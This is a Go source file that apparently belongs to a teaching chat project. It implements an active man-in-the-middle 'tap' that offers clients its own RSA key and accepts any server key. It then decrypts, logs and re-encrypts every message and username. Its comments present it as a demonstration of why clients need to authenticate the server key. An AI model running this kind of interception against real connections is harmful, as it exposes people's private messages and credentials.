// The tap's active attacker (tap -mitm), for both suites.
//
// For each client it learns the suite from the real server's first frame,
// completes the client's handshake as the server with its own RSA key,
// completes its own handshake with the real server as a client, then
// relays the chat and reads every text. Encryption without authentication
// stops only a passive sniffer: a client that does not check the server
// key talks to the tap, while one that pinned the real key (or was given
// -fingerprint) refuses the tap's key before it sends its name.

//go:build !js

package main

import (
	"bufio"
	"context"
	"crypto/rsa"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"
)

// mitmHandshakeTimeout bounds the two handshakes of one intercepted client.
const mitmHandshakeTimeout = 10 * time.Second

// runMITMTap accepts clients on ln and intercepts each one's session with
// upstream, handshaking with the client using key. Both legs (client ↔ tap,
// tap ↔ server) are recorded into rec, which may be nil. report gets one
// line per event and one "[MITM] …" line per text read; it is called from
// several goroutines. It returns when ctx is done, after every connection
// has ended.
func runMITMTap(ctx context.Context, ln net.Listener, upstream string, key *rsa.PrivateKey, rec *capture, report func(string)) error {
	if key == nil {
		return errors.New("tap -mitm needs an RSA key of its own")
	}
	if report == nil {
		report = func(string) {}
	}
	report(fmt.Sprintf("MITM: answering every client with the tap's own key %s", fingerprint(&key.PublicKey)))
	return acceptEach(ctx, ln, func(ctx context.Context, down net.Conn) {
		m := &mitmSession{key: key, report: report, label: down.RemoteAddr().String()}
		m.run(ctx, down, upstream, rec)
	})
}

// mitmSession is one intercepted client: two sessions, one per leg.
type mitmSession struct {
	key    *rsa.PrivateKey
	report func(string)

	down, up   frameRW      // client ↔ tap, tap ↔ real server
	toClient   recordCipher // the tap's session with the client (the tap as server)
	toServer   recordCipher // the tap's session with the server (the tap as client)
	suite      string
	serverKey  string // the real server's fingerprint
	mu         sync.Mutex
	label      string // the client's address, then its username
	nameHeard  bool
	closeConns func()
}

func (m *mitmSession) name() string {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.label
}

func (m *mitmSession) run(ctx context.Context, downConn net.Conn, upstream string, rec *capture) {
	dialer := net.Dialer{Timeout: mitmHandshakeTimeout}
	upConn, err := dialer.DialContext(ctx, "tcp", upstream)
	if err != nil {
		m.report(fmt.Sprintf("%s: upstream %s unreachable: %v", m.label, upstream, err))
		downConn.Close()
		return
	}
	downConn = rec.wrapConn(downConn, "server")
	upConn = rec.wrapConn(upConn, "client")
	var once sync.Once
	m.closeConns = func() {
		once.Do(func() {
			downConn.Close()
			upConn.Close()
		})
	}
	defer m.closeConns()
	stop := context.AfterFunc(ctx, m.closeConns)
	defer stop()

	m.down = frameRW{bufio.NewReader(downConn), downConn}
	m.up = frameRW{bufio.NewReader(upConn), upConn}
	deadline := time.Now().Add(mitmHandshakeTimeout)
	downConn.SetDeadline(deadline)
	upConn.SetDeadline(deadline)
	if err := m.handshakes(); err != nil {
		m.report(fmt.Sprintf("%s: %v", m.label, err))
		return
	}
	downConn.SetDeadline(time.Time{})
	upConn.SetDeadline(time.Time{})
	m.report(fmt.Sprintf("%s: intercepting (%s suite): the client accepted the tap's key instead of %s", m.label, m.suite, m.serverKey))

	var wg sync.WaitGroup
	wg.Add(2)
	go func() {
		defer wg.Done()
		m.relay(m.down, m.toClient, m.up, m.toServer, true)
	}()
	go func() {
		defer wg.Done()
		m.relay(m.up, m.toServer, m.down, m.toClient, false)
	}()
	wg.Wait()
	m.report(fmt.Sprintf("%s: connection closed", m.name()))
}

// handshakes reads the real server's first frame, answers the client as
// that suite's server with the tap's key, then completes the tap's own
// handshake with the real server.
func (m *mitmSession) handshakes() error {
	first, err := readFrame(m.up)
	if err != nil {
		return fmt.Errorf("reading the real server's first frame: %w", err)
	}
	switch {
	case isPublicKeyPEM(first):
		m.suite = suiteClassic
		pub, err := parsePublicKeyPEM(first)
		if err != nil {
			return fmt.Errorf("real server's key: %w", err)
		}
		m.serverKey = fingerprint(pub)
	case isModernHello(first):
		m.suite = suiteModern
		hello, err := parseServerHello(first)
		if err != nil {
			return fmt.Errorf("real server's hello: %w", err)
		}
		pub, err := parsePublicKeyDER(hello.spki)
		if err != nil {
			return fmt.Errorf("real server's key: %w", err)
		}
		m.serverKey = fingerprint(pub)
	default:
		return errors.New("the real server's first frame is neither classic nor modern")
	}
	m.report(fmt.Sprintf("%s: the real server speaks the %s suite with key %s; offering the client the tap's key instead", m.label, m.suite, m.serverKey))

	asServer, asClient := classicServerHandshake, classicClientHandshake
	if m.suite == suiteModern {
		asServer, asClient = serverHandshakeModern, clientHandshakeModern
	}
	m.toClient, err = asServer(m.down, &handshakeConfig{Key: m.key})
	if err != nil {
		if errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) {
			return errors.New("the client hung up during the handshake: it refused the tap's key (it checks the server key); nothing intercepted")
		}
		return fmt.Errorf("handshake with the client failed, nothing intercepted: %w", err)
	}

	// The tap takes whatever key the real server sends.
	acceptAny := func(*rsa.PublicKey) (string, error) { return "", nil }
	m.toServer, err = asClient(m.up, first, &handshakeConfig{CheckKey: acceptAny})
	if err != nil {
		return fmt.Errorf("handshake with the real server failed: %w", err)
	}
	return nil
}

// relay opens each record from src with the tap's session on that leg,
// reports the text and seals it again for dst. fromClient says which way
// it runs: the client's first record is its username.
func (m *mitmSession) relay(src frameRW, in recordCipher, dst frameRW, out recordCipher, fromClient bool) {
	defer m.closeConns()
	for {
		payload, err := readFrame(src)
		if err != nil {
			return
		}
		text, err := in.open(payload)
		if err != nil {
			m.report(fmt.Sprintf("%s: a record does not open (%v); closing", m.name(), err))
			return
		}
		m.reportText(string(text), fromClient)
		sealed, err := out.seal(text)
		if err != nil {
			return
		}
		if err := writeFrame(dst, sealed); err != nil {
			return
		}
	}
}

// reportText reports one text read in the clear, a line per text line.
func (m *mitmSession) reportText(text string, fromClient bool) {
	m.mu.Lock()
	if fromClient && !m.nameHeard {
		m.nameHeard = true
		m.label = text
		m.mu.Unlock()
		m.report(fmt.Sprintf("[MITM] username: %s", text))
		return
	}
	name := m.label
	m.mu.Unlock()
	who := name
	if !fromClient {
		who = "server → " + name
	}
	for _, line := range strings.Split(text, "\n") {
		if line != "" {
			m.report(fmt.Sprintf("[MITM] %s: %s", who, line))
		}
	}
}
